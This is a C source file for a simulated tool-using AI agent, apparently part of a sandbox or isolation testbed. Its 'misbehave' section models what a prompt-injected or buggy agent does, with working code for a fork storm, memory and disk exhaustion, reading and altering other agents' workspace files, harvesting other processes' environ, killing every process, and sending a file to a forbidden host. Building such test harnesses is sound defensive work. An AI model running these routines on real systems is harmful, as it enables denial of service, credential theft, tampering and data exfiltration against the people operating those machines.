/* agent: a tool-using AI agent that asks a model server (modelserver.c) over TCP.
 *
 *   agent SERVER_IP PORT AGENT_ID WORKSPACE [WEB_IP:WEB_PORT]
 *
 * It connects (retrying while the server is not yet listening), says "HELLO ID",
 * then loops: it reads "TOOL THINK_US KIND ARGS" or "DONE THINK_US" (the task's
 * final answer) or "EXIT", sleeps the think time, runs the tool in its own kernel
 * instance, and sends "RESULT BYTES" and the tool's output back. Tools really run:
 *
 *   shell CMD...   /bin/sh -c CMD in the workspace (a subprocess; its output)
 *   read PATH      read a workspace file
 *   write PATH N   write N bytes of numbered lines (making a new directory)
 *   patch PATH L   rewrite line L of a file through a temporary and rename(2)
 *   build          "compile" every src/ file to obj/ (read, write), then link in
 *                  a subprocess: cat obj/... | wc -c
 *   search WORD    walk the workspace, count lines holding WORD
 *   fetch PATH     HTTP GET of PATH from the web service (webserver.c) given as
 *                  WEB_IP:WEB_PORT, the page saved as pages/NAME in the workspace
 *
 * With a web service, its address is also in the environment of shell commands as
 * $WEB (so they may fetch with wget), and at exit the agent tells the service it is
 * done (GET /quit), which ends the service once every agent has.
 *
 * and the misbehaviours a trace can ask for (docs/agents.md), each printing
 * "misbehave KIND START_NS END_NS WHAT" of what it achieved:
 *
 *   forkbomb N US  fork N children that sleep US then exec /bin/true
 *   memhog MIB     malloc and touch MIB MiB, kept
 *   fillfs MIB     write WORKSPACE/fill.bin until ENOSPC (at most MIB MiB)
 *   snoop          read and append to the files of other workspaces under /work
 *   probe          list /proc, read other processes' cmdline and environ
 *   killer         the same, and SIGKILL every process found
 *   exfil IP PORT  connect to a forbidden peer and send a workspace file
 *   spin M         a runaway loop of M million iterations
 *   flood          nothing here: the trace's huge prompts hammer the server
 *
 * It prints "ready NS" once its hello is sent (NS since main), one line per
 * finished task "task I START_NS END_NS MODEL_NS TOOL_NS KERNEL_NS" (model: waiting
 * for replies; tool: running tools; kernel: system time of it and its children,
 * getrusage), and at exit "maxrss KB" and "errors N" (tools that failed for want of a
 * resource: fork, pipe, create, a short write).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "lineio.h"

#define RESULT_MAX_BYTES 16384
#define CONNECT_TRIES 1000
#define CONNECT_RETRY_NS 1000000L
#define NS_PER_US 1000LL
#define PATH_BYTES 512
#define BUILD_SUFFIX_BYTES 8 /* the "object" a compile writes: a checksum of the source */
#define MIB (1L << 20)
#define PAGE_BYTES 4096
#define FILL_CHUNK_BYTES (64 * 1024)
#define PROC_READ_BYTES 4096
#define SPIN_UNIT 1000000L /* spin's argument counts millions of loop iterations */

/* Tools that failed for want of a resource (fork, pipe, create, short write): what
 * another agent's misbehaviour can do to this one, printed at exit as "errors N". */
static long tool_errors;

static long long now_ns(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * NS_PER_S + ts.tv_nsec;
}

/* Room for a workspace path and a relative path under it, in PATH_BYTES. */
#define WORKSPACE_BYTES (PATH_BYTES / 2)
static char workspace[WORKSPACE_BYTES];
static struct sockaddr_in web; /* the web service; sin_family 0 when there is none */
#define PAGES_DIR "pages"
#define HTTP_HEADER_END "\r\n\r\n"
static const char HTTP_OK[] = "HTTP/1.0 200";

static size_t append(char *out, size_t used, const char *fmt, const char *text) {
    if (used >= RESULT_MAX_BYTES)
        return used;
    int n = snprintf(out + used, RESULT_MAX_BYTES - used, fmt, text);
    if (n < 0)
        return used;
    used += (size_t)n;
    return used < RESULT_MAX_BYTES ? used : RESULT_MAX_BYTES - 1;
}

/* Run /bin/sh -c CMD in the workspace; its stdout and stderr into out. */
static size_t run_shell(const char *cmd, char *out) {
    int fds[2];
    if (pipe(fds) != 0) {
        tool_errors++;
        return append(out, 0, "pipe failed: %s\n", strerror(errno));
    }
    pid_t pid = fork();
    if (pid < 0) {
        int err = errno;
        close(fds[0]);
        close(fds[1]);
        tool_errors++;
        return append(out, 0, "fork failed: %s\n", strerror(err));
    }
    if (pid == 0) {
        dup2(fds[1], 1);
        dup2(fds[1], 2);
        close(fds[0]);
        close(fds[1]);
        if (chdir(workspace) != 0)
            _exit(126);
        execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
        _exit(127);
    }
    close(fds[1]);
    size_t used = 0;
    ssize_t n;
    char sink[LINE_MAX_BYTES];
    while ((n = read(fds[0], used < RESULT_MAX_BYTES ? out + used : sink,
                     used < RESULT_MAX_BYTES ? RESULT_MAX_BYTES - used : sizeof sink)) > 0)
        if (used < RESULT_MAX_BYTES)
            used += (size_t)n;
    close(fds[0]);
    int status = 0;
    if (pid > 0)
        waitpid(pid, &status, 0);
    if (used == 0) {
        char note[64];
        snprintf(note, sizeof note, "(no output, status %d)\n", WEXITSTATUS(status));
        used = append(out, 0, "%s", note);
    }
    return used;
}

static void ws_path(char *out, const char *rel) {
    snprintf(out, PATH_BYTES, "%s/%s", workspace, rel);
}

static size_t tool_read(const char *rel, char *out) {
    char path[PATH_BYTES];
    ws_path(path, rel);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return append(out, 0, "read %s: no such file\n", rel);
    ssize_t n = read(fd, out, RESULT_MAX_BYTES - 1);
    close(fd);
    return n > 0 ? (size_t)n : append(out, 0, "read %s: empty\n", rel);
}

static size_t tool_write(const char *rel, long bytes, char *out) {
    char path[PATH_BYTES];
    ws_path(path, rel);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 && errno == ENOENT) { /* a new directory: make it, as an editor would */
        char dir[PATH_BYTES];
        snprintf(dir, sizeof dir, "%s", path);
        char *slash = strrchr(dir, '/');
        if (slash != NULL) {
            *slash = '\0';
            mkdir(dir, 0755);
        }
        fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    }
    if (fd < 0) {
        tool_errors++;
        return append(out, 0, "write %s: cannot create\n", rel);
    }
    char line[128];
    long written = 0;
    for (long i = 0; written < bytes; i++) {
        int n = snprintf(line, sizeof line, "line %ld of %s: int v%ld = %ld;\n", i, rel, i,
                         i * 7);
        if (written + n > bytes)
            n = (int)(bytes - written);
        if (write_all(fd, line, (size_t)n) != 0) {
            tool_errors++;
            close(fd);
            return append(out, 0, "write %s: short write\n", rel);
        }
        written += n;
    }
    close(fd);
    size_t used = append(out, 0, "wrote %s\n", rel);
    return used;
}

static size_t tool_patch(const char *rel, long target, char *out) {
    char path[PATH_BYTES], tmp[PATH_BYTES + 8];
    ws_path(path, rel);
    snprintf(tmp, sizeof tmp, "%s.tmp", path);
    FILE *in = fopen(path, "r");
    if (in == NULL)
        return append(out, 0, "patch %s: no such file\n", rel);
    FILE *o = fopen(tmp, "w");
    if (o == NULL) {
        fclose(in);
        tool_errors++;
        return append(out, 0, "patch %s: cannot create a temporary\n", rel);
    }
    char line[LINE_MAX_BYTES];
    long number = 0, patched = 0;
    while (fgets(line, sizeof line, in) != NULL) {
        if (number++ == target) {
            fprintf(o, "patched line %ld of %s\n", target, rel);
            patched = 1;
        } else {
            fputs(line, o);
        }
    }
    fclose(in);
    if (fclose(o) != 0) { /* the flush failed: a full disk */
        tool_errors++;
        unlink(tmp);
        return append(out, 0, "patch %s: cannot write\n", rel);
    }
    rename(tmp, path);
    return append(out, 0, patched ? "patched %s\n" : "patch %s: line out of range\n", rel);
}

static size_t tool_build(char *out) {
    char src[PATH_BYTES], obj[PATH_BYTES];
    ws_path(src, "src");
    DIR *dir = opendir(src);
    size_t used = 0;
    long units = 0;
    if (dir != NULL) {
        struct dirent *e;
        char buf[LINE_MAX_BYTES];
        while ((e = readdir(dir)) != NULL) {
            if (e->d_name[0] == '.')
                continue;
            char in_path[PATH_BYTES * 2], out_path[PATH_BYTES * 2];
            snprintf(in_path, sizeof in_path, "%s/%s", src, e->d_name);
            ws_path(obj, "obj");
            snprintf(out_path, sizeof out_path, "%s/%s.o", obj, e->d_name);
            int fd = open(in_path, O_RDONLY);
            if (fd < 0)
                continue;
            uint64_t sum = 1469598103934665603ULL; /* FNV-1a offset basis */
            ssize_t n;
            while ((n = read(fd, buf, sizeof buf)) > 0)
                for (ssize_t i = 0; i < n; i++)
                    sum = (sum ^ (unsigned char)buf[i]) * 1099511628211ULL; /* FNV prime */
            close(fd);
            int o = open(out_path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (o >= 0) {
                write_all(o, (const char *)&sum, BUILD_SUFFIX_BYTES);
                close(o);
            }
            units++;
        }
        closedir(dir);
    }
    char note[64];
    snprintf(note, sizeof note, "compiled %ld units\n", units);
    used = append(out, 0, "%s", note);
    return used + run_shell("cat obj/*.o | wc -c", out + used);
}

static long search_dir(const char *dir_path, const char *word, long *files) {
    DIR *dir = opendir(dir_path);
    if (dir == NULL)
        return 0;
    long hits = 0;
    struct dirent *e;
    char line[LINE_MAX_BYTES];
    while ((e = readdir(dir)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char path[PATH_BYTES * 2];
        snprintf(path, sizeof path, "%s/%s", dir_path, e->d_name);
        struct stat st;
        if (lstat(path, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            hits += search_dir(path, word, files);
            continue;
        }
        FILE *f = fopen(path, "r");
        if (f == NULL)
            continue;
        long mine = 0;
        while (fgets(line, sizeof line, f) != NULL)
            if (strstr(line, word) != NULL)
                mine++;
        fclose(f);
        if (mine > 0)
            (*files)++;
        hits += mine;
    }
    closedir(dir);
    return hits;
}

/* ---- Misbehaviours: what a prompt injection or a bug makes the agent do ----------
 * Each is a tool kind of the trace (cofferos.sim.agents.misbehave), really done with
 * system calls in the agent's own container, and each prints what it achieved:
 * "misbehave KIND START_NS END_NS KEY=VALUE..." (observed, not assumed). */

static long long misbehave_start;

static size_t report(char *out, const char *kind, const char *fmt, long a, long b, long c) {
    char what[256];
    snprintf(what, sizeof what, fmt, a, b, c);
    printf("misbehave %s %lld %lld %s\n", kind, misbehave_start, now_ns(), what);
    fflush(stdout); /* kept if a policy kills the agent later */
    return append(out, 0, "%s\n", what);
}

/* fork N children, each sleeps HOLD_US then execs /bin/true: a fork and exec storm. */
static size_t bad_forkbomb(long n, long hold_us, char *out) {
    long forked = 0, failed = 0;
    for (long i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            sleep_ns(hold_us * NS_PER_US);
            execl("/bin/true", "true", (char *)NULL);
            _exit(127);
        }
        if (pid < 0)
            failed++;
        else
            forked++;
    }
    while (wait(NULL) > 0) {
    }
    return report(out, "forkbomb", "forked=%ld failed=%ld asked=%ld", forked, failed, n);
}

/* Map and touch MIB MiB, a MiB at a time, and keep it: a memory hog. */
static size_t bad_memhog(long mib, char *out) {
    long touched = 0;
    for (; touched < mib; touched++) {
        char *chunk = malloc(MIB);
        if (chunk == NULL)
            break;
        for (long off = 0; off < MIB; off += PAGE_BYTES)
            chunk[off] = 1;
    }
    return report(out, "memhog", "touched_mib=%ld asked_mib=%ld errno=%ld", touched, mib,
                  touched < mib ? errno : 0);
}

/* Write a workspace file until ENOSPC (or MIB MiB): filling the disk. */
static size_t bad_fillfs(long mib, char *out) {
    char path[PATH_BYTES];
    ws_path(path, "fill.bin");
    static char chunk[FILL_CHUNK_BYTES];
    memset(chunk, 'x', sizeof chunk);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    long written = 0, err = 0;
    if (fd < 0)
        err = errno;
    size_t size = sizeof chunk;
    while (fd >= 0 && written < mib * MIB) {
        ssize_t n = write(fd, chunk, size);
        if (n <= 0) {
            err = n < 0 ? errno : ENOSPC;
            if (size == 1)
                break;
            size /= 2; /* fill the last bytes too, as dd to a full disk does */
            continue;
        }
        written += n;
    }
    if (fd >= 0)
        close(fd);
    return report(out, "fillfs", "written_kib=%ld asked_mib=%ld errno=%ld", written / 1024,
                  mib, err);
}

/* Read the files of every other agent's workspace under /work, and append to them. */
static size_t bad_snoop(char *out) {
    long read_files = 0, changed = 0, seen = 0;
    DIR *work = opendir("/work");
    const char *mine = strrchr(workspace, '/');
    struct dirent *e;
    while (work != NULL && (e = readdir(work)) != NULL) {
        if (e->d_name[0] == '.' || (mine != NULL && strcmp(e->d_name, mine + 1) == 0))
            continue;
        seen++;
        char src[PATH_BYTES];
        snprintf(src, sizeof src, "/work/%.64s/src", e->d_name);
        DIR *dir = opendir(src);
        struct dirent *f;
        while (dir != NULL && (f = readdir(dir)) != NULL) {
            if (f->d_name[0] == '.')
                continue;
            char path[PATH_BYTES * 2], buf[LINE_MAX_BYTES];
            snprintf(path, sizeof path, "%s/%s", src, f->d_name);
            int fd = open(path, O_RDONLY);
            if (fd >= 0) {
                if (read(fd, buf, sizeof buf) > 0) {
                    read_files++;
                    printf("snooped read %s\n", path);
                }
                close(fd);
            }
            fd = open(path, O_WRONLY | O_APPEND);
            if (fd >= 0) {
                if (write(fd, "/* injected */\n", 15) == 15) {
                    changed++;
                    printf("snooped changed %s\n", path);
                }
                close(fd);
            }
        }
        if (dir != NULL)
            closedir(dir);
    }
    if (work != NULL)
        closedir(work);
    return report(out, "snoop", "workspaces=%ld read=%ld changed=%ld", seen, read_files,
                  changed);
}

/* The total of /proc/loadavg's fourth field ("running/total"): the kernel's tasks. */
static long kernel_tasks(void) {
    char buf[256] = {0};
    int fd = open("/proc/loadavg", O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    char *slash = n > 0 ? strchr(buf, '/') : NULL;
    return slash != NULL ? atol(slash + 1) : -1;
}

/* List /proc, read every other process's cmdline and environ; with kill, SIGKILL it. */
static size_t bad_proc(int kill_them, char *out) {
    long pids = 0, cmdlines = 0, environs = 0, killed = 0;
    pid_t me = getpid();
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc != NULL && (e = readdir(proc)) != NULL) {
        char *end;
        long pid = strtol(e->d_name, &end, 10);
        if (*end != '\0' || pid <= 0 || pid == me)
            continue;
        pids++;
        const char *files[] = {"cmdline", "environ"};
        for (int i = 0; i < 2; i++) {
            char path[PATH_BYTES], buf[PROC_READ_BYTES];
            snprintf(path, sizeof path, "/proc/%ld/%s", pid, files[i]);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            ssize_t n = read(fd, buf, sizeof buf);
            close(fd);
            if (n > 0) {
                if (i == 0)
                    cmdlines++;
                else
                    environs++;
                /* The arguments (or variables) as one line: their NULs as spaces. */
                for (ssize_t k = 0; k < n; k++)
                    if (buf[k] == '\0' || buf[k] == '\n')
                        buf[k] = ' ';
                while (n > 0 && buf[n - 1] == ' ')
                    n--;
                printf("probed %s %.*s\n", path, (int)n, buf);
            }
        }
        if (kill_them && kill((pid_t)pid, SIGKILL) == 0)
            killed++;
    }
    if (proc != NULL)
        closedir(proc);
    long tasks = kernel_tasks();
    printf("probed tasks %ld\n", tasks);
    if (kill_them)
        return report(out, "killer", "pids=%ld killed=%ld tasks=%ld", pids, killed, tasks);
    return report(out, "probe", "pids=%ld readable=%ld tasks=%ld", pids, cmdlines + environs,
                  tasks);
}

/* Connect to a host the agent should not reach and send it the workspace's files. */
static size_t bad_exfil(const char *host, long port, char *out) {
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
    long connected = 0, sent = 0, err = 0;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (inet_pton(AF_INET, host, &addr.sin_addr) != 1)
        err = EINVAL;
    else if (connect(fd, (struct sockaddr *)&addr, sizeof addr) == 0) {
        connected = 1;
        char buf[LINE_MAX_BYTES];
        size_t n = tool_read("src/f0.c", buf);
        if (write_all(fd, buf, n) == 0)
            sent = (long)n;
    } else
        err = errno;
    close(fd);
    return report(out, "exfil", "connected=%ld sent=%ld errno=%ld", connected, sent, err);
}

/* A runaway loop: spin MILLIONS x 10^6 iterations of user work, no system call. */
static size_t bad_spin(long millions, char *out) {
    volatile unsigned long sink = 0;
    for (long i = 0; i < millions * SPIN_UNIT; i++)
        sink += (unsigned long)i;
    return report(out, "spin", "iterations=%ld sum=%ld unused=%ld", millions * SPIN_UNIT,
                  (long)(sink & 1), 0);
}

/* The misbehaviours by kind; 0 if KIND is none of them. */
static size_t misbehave(const char *kind, char *arg, char *num, char *out, int *known) {
    *known = 1;
    misbehave_start = now_ns();
    if (strcmp(kind, "forkbomb") == 0)
        return bad_forkbomb(arg ? atol(arg) : 0, num ? atol(num) : 0, out);
    if (strcmp(kind, "memhog") == 0)
        return bad_memhog(arg ? atol(arg) : 0, out);
    if (strcmp(kind, "fillfs") == 0)
        return bad_fillfs(arg ? atol(arg) : 0, out);
    if (strcmp(kind, "snoop") == 0)
        return bad_snoop(out);
    if (strcmp(kind, "probe") == 0)
        return bad_proc(0, out);
    if (strcmp(kind, "killer") == 0)
        return bad_proc(1, out);
    if (strcmp(kind, "exfil") == 0)
        return bad_exfil(arg ? arg : "0.0.0.0", num ? atol(num) : 0, out);
    if (strcmp(kind, "spin") == 0)
        return bad_spin(arg ? atol(arg) : 0, out);
    if (strcmp(kind, "flood") == 0) /* the trace's huge prompts are the flood */
        return report(out, "flood", "request=%ld unused=%ld unused=%ld", 1, 0, 0);
    *known = 0;
    return 0;
}

/* Send "GET path" to the web service; the connected socket, or -1. */
static int http_get(const char *path) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&web, sizeof web) != 0) {
        if (fd >= 0)
            close(fd);
        return -1;
    }
    char request[PATH_BYTES + 64];
    int len = snprintf(request, sizeof request, "GET %s HTTP/1.0\r\n\r\n", path);
    write_all(fd, request, (size_t)len);
    return fd;
}

static size_t tool_fetch(const char *page, char *out) {
    if (web.sin_family == 0)
        return append(out, 0, "fetch %s: no web service\n", page);
    int fd = http_get(page);
    if (fd < 0)
        return append(out, 0, "fetch %s: cannot connect\n", page);
    size_t used = 0;
    ssize_t n;
    while (used < RESULT_MAX_BYTES - 1 &&
           (n = read(fd, out + used, RESULT_MAX_BYTES - 1 - used)) > 0)
        used += (size_t)n;
    close(fd);
    out[used] = '\0';
    char *body = strstr(out, HTTP_HEADER_END);
    if (strncmp(out, HTTP_OK, sizeof HTTP_OK - 1) != 0 || body == NULL)
        return append(out, 0, "fetch %s: not found\n", page);
    body += strlen(HTTP_HEADER_END);
    size_t bytes = used - (size_t)(body - out);
    const char *name = strrchr(page, '/');
    char rel[PATH_BYTES], path[PATH_BYTES];
    snprintf(rel, sizeof rel, "%s/%s", PAGES_DIR, name ? name + 1 : page);
    ws_path(path, rel);
    int o = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (o >= 0) {
        write_all(o, body, bytes);
        close(o);
    }
    char note[PATH_BYTES + 64];
    snprintf(note, sizeof note, "fetched %s: %zu bytes into %s\n", page, bytes, rel);
    return append(out, 0, "%s", note);
}

static size_t run_tool(char *tool, char *out) {
    char *kind = strtok(tool, " ");
    char *rest = strtok(NULL, "");
    if (kind == NULL)
        return append(out, 0, "%s", "empty tool call\n");
    if (strcmp(kind, "shell") == 0)
        return run_shell(rest ? rest : "true", out);
    if (strcmp(kind, "build") == 0)
        return tool_build(out);
    char *arg = rest ? strtok(rest, " ") : NULL;
    char *num = rest ? strtok(NULL, " ") : NULL;
    int known;
    size_t bad = misbehave(kind, arg, num, out, &known);
    if (known)
        return bad;
    if (arg == NULL)
        return append(out, 0, "%s: missing argument\n", kind);
    if (strcmp(kind, "read") == 0)
        return tool_read(arg, out);
    if (strcmp(kind, "write") == 0)
        return tool_write(arg, num ? atol(num) : 0, out);
    if (strcmp(kind, "patch") == 0)
        return tool_patch(arg, num ? atol(num) : 0, out);
    if (strcmp(kind, "fetch") == 0)
        return tool_fetch(arg, out);
    if (strcmp(kind, "search") == 0) {
        long files = 0, hits = search_dir(workspace, arg, &files);
        char note[128];
        snprintf(note, sizeof note, "%ld matches in %ld files\n", hits, files);
        return append(out, 0, "%s", note);
    }
    return append(out, 0, "unknown tool %s\n", kind);
}

static long long kernel_ns(void) {
    struct rusage self, children;
    getrusage(RUSAGE_SELF, &self);
    getrusage(RUSAGE_CHILDREN, &children);
    return (self.ru_stime.tv_sec + children.ru_stime.tv_sec) * NS_PER_S +
           (self.ru_stime.tv_usec + children.ru_stime.tv_usec) * NS_PER_US;
}

int main(int argc, char **argv) {
    if (argc != 5 && argc != 6) {
        fprintf(stderr, "usage: agent SERVER_IP PORT AGENT_ID WORKSPACE [WEB_IP:WEB_PORT]\n");
        return 2;
    }
    long long started = now_ns();
    if (strlen(argv[4]) >= sizeof workspace) {
        fprintf(stderr, "agent: a workspace path of at most %d bytes\n", WORKSPACE_BYTES - 1);
        return 2;
    }
    snprintf(workspace, sizeof workspace, "%s", argv[4]);
    char sub[PATH_BYTES];
    mkdir(workspace, 0755);
    ws_path(sub, "src");
    mkdir(sub, 0755);
    ws_path(sub, "obj");
    mkdir(sub, 0755);
    if (argc == 6) {
        char host[64];
        const char *colon = strchr(argv[5], ':');
        size_t host_len = colon ? (size_t)(colon - argv[5]) : 0;
        if (colon == NULL || host_len >= sizeof host) {
            fprintf(stderr, "agent: bad web address %s\n", argv[5]);
            return 2;
        }
        memcpy(host, argv[5], host_len);
        host[host_len] = '\0';
        web.sin_port = htons((unsigned short)atoi(colon + 1));
        if (inet_pton(AF_INET, host, &web.sin_addr) != 1) {
            fprintf(stderr, "agent: bad web address %s\n", argv[5]);
            return 2;
        }
        web.sin_family = AF_INET;
        setenv("WEB", argv[5], 1);
        ws_path(sub, PAGES_DIR);
        mkdir(sub, 0755);
    }
    struct sockaddr_in addr = {.sin_family = AF_INET,
                               .sin_port = htons((unsigned short)atoi(argv[2]))};
    if (inet_pton(AF_INET, argv[1], &addr.sin_addr) != 1) {
        fprintf(stderr, "agent: bad address %s\n", argv[1]);
        return 2;
    }
    struct conn c = {.fd = -1};
    for (int i = 0; i < CONNECT_TRIES; i++) {
        c.fd = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(c.fd, (struct sockaddr *)&addr, sizeof addr) == 0)
            break;
        close(c.fd);
        c.fd = -1;
        sleep_ns(CONNECT_RETRY_NS);
    }
    if (c.fd < 0) {
        fprintf(stderr, "agent: cannot reach the model server\n");
        return 1;
    }
    char line[LINE_MAX_BYTES];
    int len = snprintf(line, sizeof line, "HELLO %s\n", argv[3]);
    write_all(c.fd, line, (size_t)len);
    printf("ready %lld\n", now_ns() - started);
    char *out = malloc(RESULT_MAX_BYTES);
    long long task_start = now_ns(), asked = task_start, model = 0, tool = 0;
    long long kernel_start = kernel_ns();
    int task = 0;
    while (read_line(&c, line, sizeof line) == 1) {
        long long answered = now_ns();
        model += answered - asked;
        if (strcmp(line, "EXIT") == 0)
            break;
        long think_us = 0;
        int used = 0;
        int done = strncmp(line, "DONE ", 5) == 0;
        if (sscanf(line + 5, "%ld %n", &think_us, &used) < 1) {
            fprintf(stderr, "agent: bad reply %s\n", line);
            return 1;
        }
        sleep_ns(think_us * NS_PER_US);
        size_t bytes;
        if (done) {
            long long end = now_ns(), kernel = kernel_ns();
            printf("task %d %lld %lld %lld %lld %lld\n", task++, task_start, end, model, tool,
                   kernel - kernel_start);
            task_start = end;
            kernel_start = kernel;
            model = tool = 0;
            bytes = append(out, 0, "%s", "task done\n");
        } else {
            long long before = now_ns();
            bytes = run_tool(line + 5 + used, out);
            tool += now_ns() - before;
        }
        len = snprintf(line, sizeof line, "RESULT %zu\n", bytes);
        write_all(c.fd, line, (size_t)len);
        write_all(c.fd, out, bytes);
        asked = now_ns();
    }
    close(c.fd);
    if (web.sin_family != 0) { /* tell the web service this agent is done */
        int fd = http_get("/quit");
        if (fd >= 0) {
            while (read(fd, line, sizeof line) > 0) {
            }
            close(fd);
        }
    }
    struct rusage self;
    getrusage(RUSAGE_SELF, &self);
    printf("maxrss %ld\n", self.ru_maxrss);
    printf("errors %ld\n", tool_errors);
    return 0;
}

